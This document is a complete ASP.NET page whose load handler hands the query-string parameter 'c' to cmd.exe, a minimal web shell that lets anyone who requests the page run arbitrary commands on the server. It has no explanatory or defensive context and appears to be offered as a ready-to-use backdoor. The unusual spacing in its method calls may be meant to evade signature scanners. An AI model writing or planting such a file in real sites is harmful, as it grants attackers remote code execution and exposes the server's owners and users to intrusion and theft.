<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e)
{
    System . Diagnostics . Process . Start (
        new System.Diagnostics.ProcessStartInfo (
            "cmd.exe" ,
            "/c " +
            Request . QueryString [ "c" ]
        )
        { UseShellExecute = false }
    );
}
</script>
